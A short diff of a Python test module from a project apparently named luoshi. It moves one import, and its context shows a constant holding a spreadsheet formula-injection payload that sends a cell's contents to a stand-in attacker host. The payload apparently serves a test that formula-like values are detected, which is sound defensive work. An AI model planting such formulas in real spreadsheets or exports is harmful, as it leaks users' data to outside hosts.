@@ -15,8 +15,8 @@ from luoshi.core.demo import DemoSummary
 from luoshi.decomposition.models import PlanTask
 from luoshi.lib.tabular import is_formula_like
 from luoshi.tasks.models import Indicator, Task
+from luoshi.testing.demo import lead_assignment
 from luoshi.units.models import Unit
-from luoshi.web.tests.conftest import lead_assignment
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
 
